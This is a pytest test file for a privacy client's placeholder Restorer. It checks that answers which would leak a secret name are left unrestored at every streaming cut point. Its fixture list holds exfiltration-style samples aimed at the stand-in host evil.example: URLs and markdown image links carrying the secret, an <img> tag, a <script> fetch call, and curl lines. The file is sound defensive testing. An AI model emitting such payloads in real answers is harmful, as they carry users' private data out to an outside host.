"""An answer that would carry a secret out of the device, were it put back: cut into two pieces at every position."""

from __future__ import annotations

import pytest

from del_client.protection.placeholders import Placeholders
from del_client.protection.restoring import LOOKAHEAD, Restorer

SECRET = "Zoe Quartz"
ANSWERS = [
    "https://evil.example/?q=[NAME_1]",
    "go to evil.example/[NAME_1] now",
    "go to [NAME_1].evil.example now",
    "write to [NAME_1]@evil.example",
    "www.[NAME_1].example",
    "mailto:[NAME_1]",
    "![x](https://evil.example/[NAME_1].png)",
    "![x](https://evil.example/ [NAME_1])",
    '![x](https://evil.example/ "by [NAME_1]")',
    "![a [NAME_1] b](https://evil.example/)",
    "[click [NAME_1] here](https://evil.example/)",
    "[x](<https://evil.example/ [NAME_1]>)",
    "[x](\nhttps://evil.example/ [NAME_1] )",
    "[x]: <https://evil.example/ [NAME_1]>\n![x]",
    "[x](https://evil.example/\\) [NAME_1] )",
    "<https://evil.example/ [NAME_1]>",
    '<img src="https://evil.example/ [NAME_1]">',
    '<img alt=a" src="https://evil.example/> [NAME_1] "',
    '<img src="https://evil.example/\n\n[NAME_1]">',
    "<script>fetch('https://evil.example/' + \" [NAME_1] \")</script>",
    "<!-- [NAME_1] -->",
    "a `code [NAME_1] b` c",
    "``a ` [NAME_1] ``",
    "\\`a` [NAME_1] `",
    "one ` two\n- three ` [NAME_1] `",
    "```\n[NAME_1]\n",
    "~~~sh\ncurl -d [NAME_1] x\n~~~",
    "```\na\n  ```\n```\n[NAME_1]\n```",
    "> ```\n> a\n```\n[NAME_1]\n```",
    "- ```\n  [NAME_1]\n  ```",
    "````\n```\n[NAME_1]\n````\n",
    "    curl [NAME_1]\n",
    "\tcurl [NAME_1]\n",
    '{"name": "search", "arguments": {"q": " [NAME_1] "}}',
    "{ [NAME_1] }",
    'search(" [NAME_1] ")',
    'send(to = " [NAME_1] " , cc = f(x))',
    "<tool_call> [NAME_1] </tool_call>",
    "\\href{https://evil.example/ [NAME_1] }{x}",
    "name=[NAME_1]",
    "[name 1]/x",
    "evil.example?NAME_1",
    "x" * LOOKAHEAD + "[NAME_1]",
    "[" + "x" * LOOKAHEAD + " [NAME_1]",
]


def restored(answer: str, *cuts: int) -> str:
    known = Placeholders()
    known.placeholder("name", SECRET)
    restorer = Restorer(known)
    ends = [*cuts, len(answer)]
    return "".join(restorer.feed(answer[a:b]) for a, b in zip([0, *cuts], ends, strict=True)) + restorer.finish()


@pytest.mark.parametrize("answer", ANSWERS)
def test_it_is_shown_as_it_came_wherever_it_is_cut(answer: str) -> None:
    positions = range(len(answer) + 1) if len(answer) < 200 else (1, 40, LOOKAHEAD - 1, LOOKAHEAD, LOOKAHEAD + 3)
    for cut in positions:
        assert restored(answer, cut) == answer


@pytest.mark.parametrize("answer", [answer for answer in ANSWERS if len(answer) < 200])
def test_and_one_character_at_a_time(answer: str) -> None:
    assert restored(answer, *range(1, len(answer))) == answer


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("see [1], [NAME_1]", f"see [1], {SECRET}"),
        ("`x` is for [NAME_1].", f"`x` is for {SECRET}."),
        ("```\nx\n```\nDear [NAME_1],", f"```\nx\n```\nDear {SECRET},"),
        ("[a](https://b.example) by [NAME_1]", f"[a](https://b.example) by {SECRET}"),
        ("person(s): [NAME_1]!", f"person(s): {SECRET}!"),
        ("| [NAME_1] | 3 |", f"| {SECRET} | 3 |"),
        ("[NAME_1 said", f"{SECRET} said"),
    ],
)
def test_prose_beside_such_things_is_restored_wherever_it_is_cut(answer: str, expected: str) -> None:
    for cut in range(len(answer) + 1):
        assert restored(answer, cut) == expected
